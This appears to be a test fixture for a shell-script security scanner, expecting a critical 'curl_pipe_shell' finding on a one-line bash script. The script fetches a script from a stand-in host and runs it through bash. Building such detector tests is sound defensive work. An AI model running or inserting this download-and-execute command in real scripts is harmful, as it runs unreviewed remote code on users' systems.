# expect: shell.curl_pipe_shell critical
# path: scripts/b.sh
#!/bin/bash
bash <(curl -s https://get.example.net/x)
